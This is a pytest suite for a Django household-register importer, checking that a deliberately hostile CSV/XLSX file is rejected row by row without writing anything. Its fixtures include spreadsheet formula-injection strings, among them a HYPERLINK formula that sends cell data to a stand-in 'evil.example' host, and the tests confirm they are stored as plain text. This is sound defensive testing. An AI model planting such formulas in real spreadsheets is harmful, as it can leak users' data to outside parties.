"""A hostile register file: every bad row is reported by row and column, nothing is written."""

import datetime
import io

import pytest
from django.core.exceptions import ValidationError
from django.utils import translation

from bureau.imports import check_import, commit_import, start_import
from bureau.models import ImportJob
from households.importing import KIND, import_register_rows
from households.models import Household, Person
from tests.bureau.factories import VillageFactory
from tests.households.factories import (
    HouseholdFactory,
    PersonFactory,
    make_head,
    make_id_number,
)
from tests.households.import_files import (
    HEADERS,
    KEYS,
    csv_bytes,
    person_row,
    xlsx_bytes,
)

PersonEvent = Person.pgh_event_model
HouseholdEvent = Household.pgh_event_model
FULL_WIDTH = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")


@pytest.fixture(autouse=True)
def _private_media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "private"


def _bad_checksum(number: str) -> str:
    return number[:-1] + ("0" if number[-1] != "0" else "1")


@pytest.fixture
def registered(village):
    """A person already in the register, in household 00099 of `village`."""
    household = HouseholdFactory.create(village=village, number="00099")
    return PersonFactory.create(household=household, name="赵敏")


@pytest.fixture
def corpus(village, other_village, registered):
    """(rows, expected {(row, column)}); rows are numbered from 2 in the file."""
    head = person_row(village, "00001", name="张伟", serial=1)
    born_1980 = datetime.date(1980, 1, 1)
    rows = [
        head,  # 2: fine, but duplicated on row 6 and a second head on row 11
        person_row(village, "00001", name="李娜", relation="配偶", sex="F", serial=2)
        | {
            "id_number": _bad_checksum(
                make_id_number(birth_date=born_1980, sex="F", serial=2)
            )
        },
        person_row(
            village,
            "00001",
            name="张未来",
            relation="子",
            birth_date="",
            id_number=make_id_number(
                birth_date=datetime.date(2099, 1, 1), sex="M", serial=3
            ),
        ),
        person_row(
            village,
            "00001",
            name="张全角",
            relation="子",
            born=datetime.date(2001, 2, 3),
            serial=4,
            marital_status="未婚",
        ),  # 5: full-width digits, fine
        person_row(village, "00002", name="王重复", id_number=head["id_number"]),
        person_row(
            village,
            "00003",
            name="赵敏",
            id_number=registered.id_number,
            sex={"M": "男", "F": "女"}[registered.sex],
            birth_date=registered.birth_date.isoformat(),
        ),
        person_row(
            village, "00004", name="钱未知", serial=7, village_code="370102999999"
        ),
        person_row(other_village, "00005", name="孙外镇", serial=8),
        person_row(
            village,
            "00006",
            name="=1+1",
            serial=9,
            address='=HYPERLINK("http://evil.example/?"&A1,"点击")',
            ethnicity="@SUM(A1)",
        ),  # 10: formula strings, fine (kept as text)
        person_row(village, "00001", name="张二", serial=10),
        person_row(village, "00007", name="周将来", serial=11, birth_date="2099-01-01"),
        person_row(village, "00008", name="吴科学", id_number="3.70102E+17"),
        person_row(village, "00009", name="郑不可", serial=12, birth_date="2023-02-30"),
        person_row(village, "00010", name="冯舅舅", serial=13, relation="舅舅"),
        person_row(village, "00011", name="", serial=14),
        person_row(village, "00012", name="陈性别", serial=15, sex="F") | {"sex": "男"},
        person_row(village, "00013", name="褚电话", serial=16, phone="12345"),
    ]
    rows[3]["id_number"] = rows[3]["id_number"].translate(FULL_WIDTH)
    expected = {
        (2, "证件号码"),
        (3, "证件号码"),
        (4, "证件号码"),
        (6, "证件号码"),
        (7, "证件号码"),
        (8, "村居代码"),
        (9, "村居代码"),
        (2, "与户主关系"),
        (11, "与户主关系"),
        (12, "出生日期"),
        (13, "证件号码"),
        (14, "出生日期"),
        (15, "与户主关系"),
        (16, "姓名"),
        (17, "性别"),
        (18, "联系电话"),
    }
    return rows, expected


def _snapshot():
    return (
        Person.objects.count(),
        Household.objects.count(),
        PersonEvent.objects.count(),
        HouseholdEvent.objects.count(),
    )


def test_every_bad_row_is_reported_by_row_and_column(staff, corpus):
    rows, expected = corpus

    result = import_register_rows(by=staff, rows=rows, dry_run=True)

    found = {(e.row, e.column) for e in result.blocking_errors}
    assert found == expected
    assert result.rows_invalid == len({row for row, _ in expected})
    assert result.rows_total == len(rows)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_hostile_file_writes_nothing(staff, corpus, kind):
    rows, expected = corpus
    data = csv_bytes(rows) if kind == "csv" else xlsx_bytes(rows)
    before = _snapshot()
    job = start_import(
        by=staff, kind=KIND, file=io.BytesIO(data), filename=f"hostile.{kind}"
    )

    job = commit_import(job.pk)

    assert job.status == ImportJob.Status.FAILED
    assert {(e["row"], e["column"]) for e in job.errors if not e.get("warning")} == (
        expected
    )
    assert job.rows_created == 0
    assert _snapshot() == before


def test_duplicates_name_both_rows(staff, corpus):
    rows, _ = corpus
    with translation.override("en"):
        result = import_register_rows(by=staff, rows=rows, dry_run=True)

    messages = {
        e.row: e.message for e in result.blocking_errors if e.column == "证件号码"
    }
    assert "rows 2 and 6" in messages[2]
    assert "rows 2 and 6" in messages[6]
    heads = {e.row: e.message for e in result.errors if e.column == "与户主关系"}
    assert "rows 2 and 11" in heads[2]
    assert "rows 2 and 11" in heads[11]


def test_the_register_duplicate_names_the_household_it_is_in(staff, corpus, registered):
    rows, _ = corpus
    with translation.override("en"):
        result = import_register_rows(by=staff, rows=rows, dry_run=True)

    (message,) = [e.message for e in result.blocking_errors if e.row == 7]
    assert "household 00099" in message
    assert "correction" in message


def test_valid_only_writes_just_the_good_rows_of_a_hostile_file(staff, corpus):
    rows, expected = corpus

    result = import_register_rows(by=staff, rows=rows, valid_only=True)

    assert result.committed
    good = set(range(2, len(rows) + 2)) - {row for row, _ in expected}
    assert good == {5, 10}
    assert result.rows_created == 2
    assert set(Person.objects.values_list("name", flat=True)) == {
        "赵敏",
        "张全角",
        "=1+1",
    }


def test_formula_strings_are_stored_as_literal_text(staff, village):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    rows = [
        person_row(village, "00001", name="+张三", serial=1, address=formula)
        | {"ethnicity": "-1+1"},
        person_row(village, "00001", name="@李四", relation="配偶", sex="F", serial=1)
        | {"address": formula},
    ]

    result = import_register_rows(
        by=staff,
        rows=[(n, r) for n, r in enumerate(rows, start=2)],
    )

    assert result.committed, result.errors
    household = Household.objects.get()
    assert household.address == formula
    assert set(household.members.values_list("name", flat=True)) == {"+张三", "@李四"}
    assert household.members.get(name="+张三").ethnicity == "-1+1"


def test_an_empty_file_fails_with_a_message(staff):
    job = start_import(by=staff, kind=KIND, file=io.BytesIO(b""), filename="空.csv")

    job = check_import(job.pk)

    assert job.status == ImportJob.Status.FAILED
    assert job.message
    assert not Person.objects.exists()


def test_a_file_with_only_the_header_has_nothing_to_import(staff):
    data = ",".join(HEADERS).encode() + b"\r\n"
    job = start_import(by=staff, kind=KIND, file=io.BytesIO(data), filename="头.csv")

    job = commit_import(job.pk)

    assert (job.status, job.rows_total, job.rows_created) == ("done", 0, 0)


def test_wrong_headers_fail_with_the_missing_columns(staff):
    data = "编号,名字,身份证\r\n1,张三,110105194912310029\r\n".encode()
    job = start_import(by=staff, kind=KIND, file=io.BytesIO(data), filename="错.csv")

    with translation.override("en"):
        job = check_import(job.pk)

    assert job.status == ImportJob.Status.FAILED
    assert "户编号" in job.message or "header" in job.message.lower()
    assert not Person.objects.exists()


def test_a_missing_required_column_is_named(staff, village):
    data = csv_bytes(
        [person_row(village, "00001", name="张伟")],
        headers=[h for h in HEADERS if h != "与户主关系"],
        keys=[k for k in KEYS if k != "relation"],
    )
    job = start_import(by=staff, kind=KIND, file=io.BytesIO(data), filename="缺.csv")

    job = check_import(job.pk)

    assert job.status == ImportJob.Status.FAILED
    assert "与户主关系" in job.message


@pytest.mark.parametrize("name", ["register.txt", "register.xlsm", "register"])
def test_other_file_types_are_refused_at_upload(staff, name):
    with pytest.raises(ValidationError):
        start_import(by=staff, kind=KIND, file=io.BytesIO(b"x"), filename=name)
    assert not ImportJob.objects.exists()


def test_files_over_the_limit_are_refused_at_upload(staff, settings):
    settings.IMPORT_MAX_UPLOAD_MB = 1
    big = io.BytesIO(b"x" * (1024 * 1024 + 1))

    with pytest.raises(ValidationError) as refused:
        start_import(by=staff, kind=KIND, file=big, filename="big.csv")

    assert refused.value.code == "file_size"
    assert not ImportJob.objects.exists()


def test_a_second_head_against_the_register_is_refused(staff, village):
    household = HouseholdFactory.create(village=village, number="00001")
    head = make_head(household, name="王强")
    newcomer = person_row(village, "00001", name="王二", serial=31, address="")
    demoted = person_row(
        village,
        "00001",
        name="王强",
        relation="配偶",
        id_number=head.id_number,
        sex={"M": "男", "F": "女"}[head.sex],
        birth_date=head.birth_date.isoformat(),
        address="",
    )

    result = import_register_rows(by=staff, rows=[newcomer, demoted], dry_run=True)

    assert {(e.row, e.column) for e in result.blocking_errors} == {
        (2, "与户主关系"),
        (3, "与户主关系"),
    }


def test_dissolved_households_and_abolished_villages_take_no_new_rows(staff, village):
    HouseholdFactory.create(
        village=village, number="00001", dissolved_on=datetime.date(2020, 1, 1)
    )
    abolished = VillageFactory.create(
        township=village.township, valid_to=datetime.date(2021, 1, 1)
    )
    rows = [
        person_row(village, "00001", name="张伟", serial=41),
        person_row(abolished, "00002", name="李四", serial=42),
    ]

    result = import_register_rows(by=staff, rows=rows, dry_run=True)

    assert {(e.row, e.column) for e in result.blocking_errors} == {
        (2, "户编号"),
        (3, "村居代码"),
    }


def test_a_person_registered_in_another_township_is_not_revealed(
    staff, village, other_village
):
    elsewhere = HouseholdFactory.create(village=other_village, number="00077")
    stranger = PersonFactory.create(household=elsewhere, name="隐藏人")
    rows = [
        person_row(
            village,
            "00001",
            name="隐藏人",
            id_number=stranger.id_number,
            sex={"M": "男", "F": "女"}[stranger.sex],
            birth_date=stranger.birth_date.isoformat(),
        )
    ]

    result = import_register_rows(by=staff, rows=rows, dry_run=True)

    (error,) = result.blocking_errors
    assert error.column == "证件号码"
    assert "00077" not in error.message
    assert other_village.name not in error.message
